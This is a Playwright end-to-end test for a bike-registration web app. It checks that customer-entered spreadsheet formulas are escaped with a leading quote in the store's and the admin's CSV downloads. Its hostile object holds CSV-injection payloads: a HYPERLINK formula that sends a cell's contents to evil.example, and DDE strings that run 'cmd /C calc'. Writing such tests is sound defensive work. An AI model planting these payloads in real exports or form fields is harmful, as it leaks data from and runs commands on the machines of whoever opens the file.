import { readFile } from 'node:fs/promises';
import { expect, test, type Page } from '@playwright/test';
import { parse } from 'csv-parse/sync';
import { newBankIdCustomer } from '../support/bankid.js';
import { acceptNecessaryCookies, signInAsAdmin } from '../support/people.js';
import { demoPassword } from '../support/servers.js';
import { signInStore } from '../support/stores.js';

/*
 * Issue 50, item 3: a customer writes spreadsheet formulas into their bike's brand, model and city;
 * the admin's analytics CSV (written in the browser) and the store's export (written by the
 * server) both carry them as text, each behind a leading quote mark (decision 094).
 */
const demoStore = { email: 'butik@ramkoll.se', password: demoPassword, staffCode: 'BUTIK2024' };

/** Today's date in Sweden (YYYY-MM-DD), as the page's range. */
function swedishToday(): string {
  return new Intl.DateTimeFormat('sv-SE', { timeZone: 'Europe/Stockholm' }).format(new Date());
}

/** The cells of a CSV download, as a spreadsheet reads them. */
async function downloadedCells(page: Page, region: string): Promise<string[][]> {
  const section = page.getByRole('region', { name: region });
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    section.getByRole('button', { name: 'Ladda ner CSV' }).click(),
  ]);
  return parse(await readFile(await download.path(), 'utf8'), { delimiter: ';', bom: true });
}

test("a customer's formulas in brand, model and city come out as text in the admin's and the store's CSV", async ({
  browser,
}) => {
  test.setTimeout(120_000);
  const run = Date.now().toString(36).toUpperCase();
  const hostile = {
    brand: `=HYPERLINK("https://evil.example/?d="&A1,"Klicka ${run}")`,
    model: "@SUM(1+1)*cmd|' /C calc'!A0",
    city: `@SUM(1+1)*cmd|' /C calc'!${run}`,
  };

  // A customer of their own; the demo store registers a bike for them.
  const customerContext = await browser.newContext();
  const customer = await customerContext.newPage();
  const { personalNumber } = await newBankIdCustomer(customer, 'Hanna Formelsson');
  const storeContext = await browser.newContext();
  const store = await storeContext.newPage();
  await store.goto('/');
  await acceptNecessaryCookies(store);
  await signInStore(store, demoStore);
  const found = await store.request.post('/api/store/customers/lookup', { data: { query: personalNumber } });
  expect(found.status()).toBe(200);
  const { customer: account } = (await found.json()) as { customer: { id: string } };
  const frameNumber = `CSV${run}`;
  const registered = await store.request.post('/api/store/registrations', {
    data: {
      customerId: account.id,
      frameNumber,
      bikeType: 'dam',
      brand: 'Crescent',
      purchase: { price: 9995, receiptNumber: 'KV-E2E-CSV', warrantyEndDate: null, receiptFileId: null },
    },
  });
  expect(registered.status(), await registered.text()).toBe(201);
  const { bikeId } = (await registered.json()) as { bikeId: string };

  // The customer writes the formulas into their bike.
  const edited = await customer.request.patch(`/api/me/bikes/${bikeId}`, { data: hostile });
  expect(edited.status(), await edited.text()).toBe(200);
  await customerContext.close();

  // The store's export (the server's writer).
  const exported = await store.request.get(`/api/store/bikes.csv?q=${frameNumber}`);
  const exportRows: string[][] = parse(await exported.text(), { delimiter: ';', bom: true });
  expect(exportRows.find((cells) => cells[0] === frameNumber)?.slice(1, 3)).toEqual([
    `'${hostile.brand}`,
    `'${hostile.model}`,
  ]);
  await storeContext.close();

  // The admin's analytics tables and their CSV (the browser's writer).
  const adminContext = await browser.newContext({ acceptDownloads: true });
  const admin = await adminContext.newPage();
  await signInAsAdmin(admin);
  await admin.goto('/analytics');
  await expect(admin.getByRole('heading', { level: 1, name: 'Statistik' })).toBeVisible();
  const today = swedishToday();
  await admin.getByLabel('Från').fill(today);
  await admin.getByLabel('Till').fill(today);
  // The table shows the text as it was typed.
  await expect(admin.getByRole('table', { name: 'Per märke' }).getByText(hostile.brand)).toBeVisible();

  const brands = await downloadedCells(admin, 'Per märke');
  expect(brands.find((cells) => cells[0]?.includes(run))).toEqual([`'${hostile.brand}`, '1', '0', '0']);
  const cities = await downloadedCells(admin, 'Per ort');
  expect(cities.find((cells) => cells[0]?.includes(run))).toEqual([`'${hostile.city}`, '1', '0', '0']);
  // Nothing in either file starts a formula.
  for (const cells of [...brands, ...cities]) expect(cells[0]).not.toMatch(/^[=+\-@\t\r]/);
  await adminContext.close();
});
